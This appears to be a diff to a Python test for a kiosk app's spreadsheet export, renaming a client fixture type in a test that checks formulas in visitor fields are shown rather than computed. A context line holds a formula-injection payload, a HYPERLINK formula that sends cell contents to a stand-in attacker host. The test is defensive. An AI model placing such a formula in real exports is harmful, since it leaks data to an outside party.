@@ -18,7 +18,7 @@ from kiosk.journal import LogEvent
 from kiosk.server.home import Home
 from kiosk.server.reports import export as sheet
 from tests.conftest import ExpectLog
-from tests.server.desk_side import Tablet
+from tests.server.desk_side import DeskClient
 from tests.server.station_side import StationSide
 
 FORMULA = "=HYPERLINK(CONCATENATE(\"http://evil.example/\",A1),'Open me')"
@@ -39,7 +39,7 @@ def exported(home: Home, data: Path) -> list[list[str]]:
 
 
 def test_a_formula_in_topic_and_note_is_shown_and_never_computed(
-    sender: StationSide, maya: Tablet, home: Home, data: Path, expect_log: ExpectLog
+    sender: StationSide, maya: DeskClient, home: Home, data: Path, expect_log: ExpectLog
 ) -> None:
     expect_log(LogEvent.CLOCK_DOUBTED, maybe=True)  # the command has another clock than the home
     visit = sender.arrives("=Ada", facts={"number": "B1", "station": "B", "topic": SUM})
